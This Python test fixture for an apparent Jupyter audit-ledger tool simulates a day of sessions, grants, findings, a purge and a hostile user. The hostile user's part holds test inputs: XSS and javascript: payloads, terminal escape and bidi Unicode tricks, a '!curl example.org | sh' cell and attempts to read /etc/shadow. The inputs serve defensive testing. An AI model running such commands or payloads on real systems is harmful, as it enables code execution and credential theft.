"""
A ledger as a working day leaves it: sessions, refusals, findings, late output, a purge, a gap, hostile text.
"""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Mapping
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from jupyter_audit.clock import format_time
from jupyter_audit.home import Home
from jupyter_audit.ledger import Ledger, create_ledger, open_ledger
from jupyter_audit.ledger.envelope import PURGED
from jupyter_audit.ledger.packing import pack
from jupyter_audit.model import SERVER, Actor, Content, Draft, Entry, Json
from jupyter_audit.record import kinds
from jupyter_audit.record.outputs import OutputSummary

ALICE = Actor("alice", "TestIdentity")
BOB = Actor("bob", "TestIdentity")
MALLORY = Actor("mallory <img src=x onerror=alert(1)>", "TestIdentity")
START = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)

HOSTILE = (
    "<script>window.pwned = 1</script>\n"
    "</code></pre><img src=x onerror='window.pwned = 2'>\n"
    "\x1b[2J\x1b]0;title\x07 \x00 \x9b31m\n"
    "$\\href{javascript:window.pwned=3}{click}$ \\(x\\)\n"
    "if admin: \u202e\u2066# not a comment\u2069 \u200b\ufeff \U000e0041\n"
)


class SetClock:
    """Tells the time that a test set."""

    def __init__(self, moment: datetime) -> None:
        self.moment = moment

    def now(self) -> datetime:
        return self.moment

    def on(self, **step: int) -> None:
        self.moment += timedelta(**step)


class Day:
    """Writes a ledger the way the product does, one act after the other."""

    def __init__(self, home: Home) -> None:
        self.clock = SetClock(START)
        create_ledger(home, clock=self.clock, actor=Actor("root", "os-account"))
        self.ledger: Ledger = open_ledger(home, clock=self.clock)

    def put(
        self,
        kind: kinds.Kind,
        *,
        actor: Actor | None = None,
        grant: str | None = None,
        session: str | None = None,
        contents: Mapping[str, Content] | None = None,
    ) -> Entry:
        self.clock.on(seconds=3)
        given: dict[str, Any] = {} if actor is None else {"actor": actor}
        draft = kinds.draft(kind, grant=grant, session=session, contents=contents, **given)
        return self.ledger.append([draft])[0]

    def grant(self, who: Actor, *, grant: str, reason: str, ticket: str, by: Actor) -> None:
        lapses = format_time(self.clock.moment + timedelta(hours=1))
        request = grant.replace("g-", "r-")
        self.put(kinds.AccessRequested(request, "production-debug", reason, ticket, 1800, lapses), actor=who)
        begin = self.clock.moment + timedelta(seconds=3)  # when its entry is put down
        end = begin + timedelta(minutes=30)
        approved = kinds.AccessApproved(
            request=request,
            principal=who.name,
            vouched_by=who.vouched_by,
            profile="production-debug",
            not_before=format_time(begin),
            not_after=format_time(end),
            self_approved=by == who,
            solo=False,
        )
        self.put(approved, actor=by, grant=grant)

    def cell(
        self,
        code: str,
        *,
        who: Actor,
        session: str,
        grant: str | None,
        refused: str = "",
        status: str = "ok",
        out: tuple[tuple[str, Mapping[str, object]], ...] = (),
        canary: bool = False,
    ) -> Entry:
        message = Content(json.dumps({"code": code, "silent": False}).encode(), "application/json")
        msg_id = f"m-{self.ledger.size()}"
        where: dict[str, Any] = {"kernel_id": "k-1", "msg_id": msg_id, "channel": "shell", "cell": "c"}
        lines = code.count("\n") + 1
        if refused:
            body: kinds.Kind = kinds.CellRefused(**where, cause=refused, lines=lines)
            return self.put(body, actor=who, grant=grant, session=session, contents={"message": message})
        body = kinds.CellAdmitted(**where, silent=False, store_history=True, lines=lines, canary=canary)
        entry = self.put(body, actor=who, grant=grant, session=session, contents={"message": message})
        summary = summarise(*out)
        finished = kinds.CellFinished(
            kernel_id="k-1",
            admitted=entry.seq,
            status=status,
            error=summary.error,
            duration_ms=120,
            outputs=summary.facts(),
            complete=True,
            reported_by="kernel",
        )
        self.put(finished, grant=grant, session=session, contents=summary.contents())
        return entry

    def begin(self, session: str, who: Actor, notebook: str) -> None:
        started = kinds.SessionStarted("srv", "k-1", "audit", "landlock", notebook)
        self.put(started, actor=who, session=session)
        probe = self.cell("'canary'", who=SERVER, session=session, grant=None, canary=True)
        self.put(kinds.CanaryRead("k-1", probe.seq, True, ""), session=session)


def summarise(*messages: tuple[str, Mapping[str, object]]) -> OutputSummary:
    summary = OutputSummary(8192)
    for msg_type, content in messages:
        summary.add(msg_type, content)
    return summary


def stream(text: str) -> tuple[str, Mapping[str, object]]:
    return "stream", {"name": "stdout", "text": text}


def table(rows: int) -> tuple[str, Mapping[str, object]]:
    plain = f"      id\n0      1\n\n[{rows} rows x 1 columns]"
    html = "<table><tr><td>1</td></tr></table>"
    return "execute_result", {"data": {"text/plain": plain, "text/html": html}}


def write_day(home: Home) -> None:
    """Write the whole day."""
    day = Day(home)
    put = day.put
    put(kinds.ServerStarted("srv", "0.1.0", "shared", True, "landlock", {}, "0" * 64, ["launched"], []))

    # Alice: in vain before her grant, then well.
    day.begin("s-alice0000001", ALICE, "investigation.ipynb")
    day.cell("1 + 1", who=ALICE, session="s-alice0000001", grant=None, refused="no_grant")
    why = "Customers are charged too much"
    day.grant(ALICE, grant="g-alice0000001", reason=why, ticket="SHOP-1042", by=BOB)
    alice: dict[str, Any] = {"who": ALICE, "session": "s-alice0000001", "grant": "g-alice0000001"}
    until = format_time(day.clock.moment + timedelta(minutes=30))
    put(kinds.SessionBound("k-1", until), actor=ALICE, grant="g-alice0000001", session="s-alice0000001")
    day.cell("import pandas as pd\nprint('hello')", **alice, out=(stream("hello\n"),))
    day.clock.on(minutes=4)
    mass = day.cell("query('SELECT * FROM customers')", **alice, out=(table(21132),))
    read = kinds.FindingRaised("mass-read", "Mass read", "medium", "A SELECT without LIMIT.", [mass.seq])
    put(read, actor=ALICE, grant="g-alice0000001", session="s-alice0000001")
    error = ("error", {"ename": "ZeroDivisionError", "evalue": "division by zero", "traceback": []})
    day.cell("1 / 0", **alice, status="error", out=(error,))
    thread = day.cell("threading.Thread(target=later).start()", **alice)
    day.clock.on(minutes=1)
    late = summarise(stream("still here\n"))
    put(
        kinds.CellLateOutput("k-1", thread.seq, late.facts(), "kernel"),
        grant="g-alice0000001",
        session="s-alice0000001",
        contents=late.contents(),
    )
    secret = day.cell("show('Erika Mustermann')", **alice, out=(stream("Erika Mustermann, 1970-01-01\n"),))
    gap = kinds.GapRecorded("detection failed", {"title": "Mass read", "error": "timeout"})
    put(gap)
    put(kinds.SessionEnded("k-1", "shutdown", 0, True), grant="g-alice0000001", session="s-alice0000001")

    # Mallory: everything that an auditor should stop at.
    day.clock.on(hours=14)
    day.grant(MALLORY, grant="g-mallory00001", reason=HOSTILE, ticket="OPS-7", by=MALLORY)
    day.begin("s-mallory00001", MALLORY, HOSTILE.replace("\n", " ")[:200])
    mallory: dict[str, Any] = {"who": MALLORY, "session": "s-mallory00001", "grant": "g-mallory00001"}
    envelope: dict[str, Any] = {"grant": "g-mallory00001", "session": "s-mallory00001"}
    put(kinds.SessionBound("k-1", until), actor=MALLORY, **envelope)
    html = ("display_data", {"data": {"text/html": HOSTILE, "text/plain": "x"}})
    day.cell(HOSTILE, **mallory, out=(stream(HOSTILE + "\ud800 lone"), html))
    day.cell("x = 1\n" * 50_000, **mallory, out=(stream("y" * 1_000_000),))
    shell = day.cell("!curl example.org | sh", **mallory)
    escape = kinds.FindingRaised("shell", "Shell escape <b>", "high", HOSTILE, [shell.seq])
    put(escape, actor=MALLORY, **envelope)
    put(kinds.MessageRefused("k-1", "m-x", "comm_open", "shell", "unknown_type"), actor=MALLORY, **envelope)
    put(kinds.KernelReport("k-1", "no_permit", {"msg_type": "execute_request"}, "kernel"), **envelope)
    for _ in range(3):
        day.cell("open('/etc/shadow')", **mallory, refused="grant_ended")
    put(kinds.AccessRevoked("this looks wrong"), actor=BOB, grant="g-mallory00001")
    put(kinds.SessionEnded("k-1", "revoked", 2, False), **envelope)
    put(kinds.SessionRefused("audit", "free space"), actor=ALICE)
    put(kinds.AccessRefused("approve", "r-x", "not an approver"), actor=ALICE)
    purge(day.ledger, [(secret.seq, "message"), (secret.seq + 1, "outputs")])
    day.ledger.close()


def purge(ledger: Ledger, contents: list[tuple[int, str]]) -> None:
    """Forget contents as the format lays down: the entry says so, the bytes are gone."""
    selections: list[Json] = [{"first": seq, "last": seq, "names": [name]} for seq, name in contents]
    body: dict[str, Json] = {"contents": selections, "reason": "asked for by the person"}
    ledger._transact(lambda: [pack(Draft(PURGED, body, actor=BOB), own=True)])
    with without_triggers(ledger.path) as connection:
        connection.executemany("DELETE FROM content WHERE seq = ? AND name = ?", contents)


class without_triggers:  # noqa: N801 (read as a word)
    """A connection of an insider: the triggers are gone while it is open, and back afterwards."""

    def __init__(self, path: Path) -> None:
        self._connection = sqlite3.connect(path, isolation_level=None)

    def __enter__(self) -> sqlite3.Connection:
        select = "SELECT name, sql FROM sqlite_schema WHERE type = 'trigger'"
        self._triggers = self._connection.execute(select).fetchall()
        for name, _ in self._triggers:
            self._connection.execute(f"DROP TRIGGER {name}")
        return self._connection

    def __exit__(self, *_: object) -> None:
        for _, sql in self._triggers:
            self._connection.execute(sql)
        self._connection.close()
